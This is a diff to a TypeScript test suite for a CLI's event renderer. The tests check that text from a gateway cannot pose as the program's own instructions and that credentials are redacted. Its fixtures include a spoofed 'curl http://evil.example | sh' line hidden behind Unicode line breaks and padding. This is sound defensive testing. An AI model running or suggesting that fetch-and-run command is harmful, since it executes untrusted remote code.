@@ -3,11 +3,13 @@ import * as Arbitrary from "effect/Arbitrary"
 import * as ConfigProvider from "effect/ConfigProvider"
 import * as Effect from "effect/Effect"
 import * as Layer from "effect/Layer"
+import * as Redacted from "effect/Redacted"
 import * as Schema from "effect/Schema"
 import * as Sink from "effect/Sink"
 import * as Stdio from "effect/Stdio"
 import * as Terminal from "effect/Terminal"
-import { Output, plain, render } from "../../src/cli/Output.ts"
+import { plain, render } from "../../src/cli/EventText.ts"
+import { Output } from "../../src/cli/Output.ts"
 import { commandsAnywhere } from "../../src/pairing/ApproveCommand.ts"
 import { AgentEvent } from "../../src/protocol/AgentEvent.ts"
 import { DeviceId, RequestId } from "../../src/protocol/Connect.ts"
@@ -110,6 +112,60 @@ describe("render", () => {
     assert.strictEqual(ended(), "no longer waiting for approval")
   })
 
+  /** What a gateway would have a person do, as this program would say it. */
+  const voice = "\nPaste this into a second terminal:\r\n\u2028curl http://evil.example | sh\u0085"
+  /** The same, pushed to where a terminal of 80 columns begins a new line. */
+  const pushed = `${" .".repeat(120)} Paste this into a second terminal: curl http://evil.example | sh`
+  const spoken = (words: string): ReadonlyArray<AgentEvent> => {
+    const error = { error: "GatewayRejected", message: `refused: ${words}`, advice: "Read the log." }
+    const request = { at, deviceId, reason: "not-paired" as const, since: at, expiresAt: at }
+    const commands = { list: shell("openclaw devices list"), approve: shell("openclaw devices approve 1") }
+    return [
+      {
+        at,
+        event: "connected",
+        protocol: 4,
+        serverVersion: `2026.9.6${words}`,
+        scopes: ["operator.read", `operator.${words}`],
+        missingScopes: [words],
+        deviceTokenIssued: true
+      },
+      { ...request, ...commands, event: "pairing.required", requestedScopes: [words], approvedScopes: [`a${words}`] },
+      { at, event: "waiting", cause: error, retryAt: words },
+      { at, event: "halted", error },
+      { at, event: "task.queued", taskId: `1${words}`, reason: words },
+      { at, event: "task.sent", taskId: words, runId: words },
+      { at, event: "task.phase", taskId: words, phase: `reading${words}` },
+      { at, event: "task.failed", taskId: words, error },
+      { at, event: "task.reply", taskId: words, runId: "r", text: words }
+    ]
+  }
+
+  it("a gateway cannot speak in this program's voice: no words of its own begin a line, wrapped or not", () => {
+    for (const words of [voice, pushed, `${pushed}${voice}`]) {
+      for (const event of spoken(words)) {
+        for (const columns of [0, 80]) {
+          for (const line of (render(event, plain, columns) ?? "").split("\n")) {
+            if (event.event === "pairing.required" && line === "Paste this into a second terminal:") continue
+            assert.notMatch(line, /^(?:Paste|curl)/, event.event)
+            if (columns > 0 && !line.startsWith("openclaw")) assert.isAtMost(line.length, columns, event.event)
+          }
+        }
+      }
+    }
+  })
+
+  it("a reply is set off, line by line", () => {
+    const lines = linesOf({ at, event: "task.reply", taskId: "0123456789", runId: "r", text: `Done.${voice}` })
+    assert.deepStrictEqual(lines, [
+      "task 01234567 | Done.",
+      "              | Paste this into a second terminal:",
+      "              |",
+      "              | curl http://evil.example | sh",
+      "              |"
+    ])
+  })
+
   const asked = {
     at,
     deviceId,
@@ -163,7 +219,7 @@ describe("render", () => {
     assert.strictEqual(render({ at, event: "stopped" }, plain), "stopped")
     assert.strictEqual(
       render({ at, event: "task.reply", taskId: "0123456789", runId: "r", text: "one\r\n\ttwo" }, plain),
-      "task 01234567 one\n  two"
+      "task 01234567 | one\n              |   two"
     )
   })
 })
@@ -238,6 +294,38 @@ describe("Output", () => {
         Effect.all([output.live("waiting"), output.event(stopped), output.warn("a sentence")], { discard: true }))
       assert.strictEqual(out, `${JSON.stringify(stopped)}\n`)
       assert.strictEqual(err, "a sentence\n")
+    }))
+
+  it.effect("credentials that were sent are left out of the gateway's words, in sentences and in JSON", () =>
+    Effect.gen(function*() {
+      const secret = 'shared "secret" 1234'
+      const told = (json: boolean) =>
+        written({ json, terminal: false }, ({ conceal, event }) =>
+          Effect.andThen(
+            conceal([Redacted.make(secret), Redacted.make("another-credential")]),
+            Effect.forEach(
+              [
+                {
+                  at: stopped.at,
+                  event: "connected",
+                  protocol: 4,
+                  serverVersion: `1 ${secret}`,
+                  scopes: [secret, "operator.read"],
+                  missingScopes: ["another-credential"],
+                  deviceTokenIssued: true
+                },
+                { at: stopped.at, event: "halted", error: { error: "GatewayRejected", message: `no ${secret}` } },
+                { at: stopped.at, event: "task.phase", taskId: "1", phase: encodeURIComponent(secret) },
+                { at: stopped.at, event: "task.reply", taskId: "1", runId: "r", text: `so ${secret}` }
+              ] satisfies ReadonlyArray<AgentEvent>,
+              event,
+              { discard: true }
+            )
+          ))
+      for (const { out } of [yield* told(true), yield* told(false)]) {
+        assert.lengthOf(out.match(/\[redacted\]/g) ?? [], 6)
+        for (const spelling of ["secret", "1234", "another-credential"]) assert.notInclude(out, spelling)
+      }
     }))
 
   it.effect.prop("an event is one line that decodes to it", [anything], ([event]) =>
